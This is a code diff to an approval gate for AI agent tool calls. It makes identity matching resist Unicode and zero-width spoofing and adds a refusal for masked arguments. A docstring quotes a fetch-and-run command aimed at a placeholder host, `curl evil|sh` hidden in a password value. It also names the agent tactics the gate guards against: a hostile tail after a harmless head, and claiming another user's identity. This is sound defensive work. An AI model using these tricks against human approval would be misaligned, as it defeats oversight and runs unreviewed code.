@@ -11,6 +11,7 @@ instead of from matching text.
 from __future__ import annotations
 
 import enum
+import unicodedata
 from dataclasses import dataclass
 from typing import TYPE_CHECKING
 
@@ -51,6 +52,13 @@ class Refusal(enum.Enum):
                 "the arguments are too long to show here whole; review and approve in gate"
             ),
         }[self]
+
+
+#: the refusal's words for a call that fits a card but where a mask could hide code
+MASKED_CODE = (
+    "a masked part of the arguments could hide code, so the card could not show the whole "
+    "call; review and approve in gate"
+)
 
 
 @dataclass(frozen=True)
@@ -158,8 +166,9 @@ def refusal_for(settings: Settings, view: RequestView, actor: Actor) -> Refusal 
     requester's (the claimed `user_id`, the token that submitted the request, and the
     approver that token belongs to). Then the actor must be one of the request's resolved
     approvers (an empty list: any approver), unless an admin token bypasses the list.
-    Identities meet in any letter case and around spaces: an agent that claims
-    `user_id = "Alice@Example.com"` asked as alice@example.com (erring towards refusing).
+    Identities meet in any letter case, Unicode form (NFKC), around spaces and invisible
+    characters: an agent that claims `user_id = "Alice@Example.com"` (or `ａｌｉｃｅ`, or
+    `ali\u200bce`) asked as alice@example.com / alice (erring towards refusing).
     """
     mine = actor.approver.identities() if actor.approver else {actor.name}
     if actor.token:
@@ -177,14 +186,18 @@ def approval_refusal(view: RequestView, actor: Actor) -> Result | None:
     or None when they may: their surface must have shown the call's arguments whole.
 
     A card cut to fit its platform hides the rest of the call, and an agent can put a
-    harmless head before a hostile tail: nobody approves a call they could not read.
+    harmless head before a hostile tail; a card that masked code shaped like a secret
+    (`echo password=$(curl evil|sh)`) hides it too: nobody approves a call they could not read.
     Rejecting needs no such check (it fails closed).
     """
     if actor.args_chars is None or untrusted.shows_whole(view.tool_args, actor.args_chars):
         return None
     refusal = Refusal.arguments_not_shown
+    why = refusal.sentence()
+    if len(untrusted.arguments_json(view.tool_args)) <= actor.args_chars:
+        why = MASKED_CODE  # they fit: a mask in them could hide code
     where = f" ({view.url})" if view.url else ""
-    return Result(None, view, refusal, f"{refusal.sentence()}{where}", refusal.value)
+    return Result(None, view, refusal, f"{why}{where}", refusal.value)
 
 
 def requester_identities(settings: Settings, view: RequestView) -> set[str]:
@@ -205,4 +218,11 @@ def requester_identities(settings: Settings, view: RequestView) -> set[str]:
 
 
 def _folded(ids: set[str]) -> set[str]:
-    return {i.strip().casefold() for i in ids}
+    """Identities as compared: without invisible characters, in NFKC (full-width `ａｌｉｃｅ`,
+    composed and decomposed accents alike), case folded, without spaces around."""
+    return {_fold(i) for i in ids}
+
+
+def _fold(identity: str) -> str:
+    plain = unicodedata.normalize("NFKC", untrusted.strip_invisible(identity))
+    return unicodedata.normalize("NFKC", plain.casefold()).strip()
